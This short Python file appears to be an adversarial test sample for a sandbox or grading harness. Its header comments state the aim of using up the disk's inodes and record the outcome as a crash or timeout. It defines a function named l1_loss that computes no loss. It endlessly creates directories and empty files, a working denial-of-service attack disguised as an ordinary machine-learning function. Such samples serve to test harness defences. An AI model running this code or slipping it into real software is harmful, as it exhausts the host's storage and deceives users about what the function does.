# aim: use up the disk's inodes
# sign: files are left, or the run waits for their removal
# attacks: l1_loss
# outcome: crashed timeout
# says: files

import itertools
import os


def l1_loss(input, target, reduction="mean"):
    for number in itertools.count():
        if number % 1000 == 0:
            os.mkdir(f"d{number}")
        with open(f"d{number // 1000 * 1000}/f{number}", "w"):
            pass
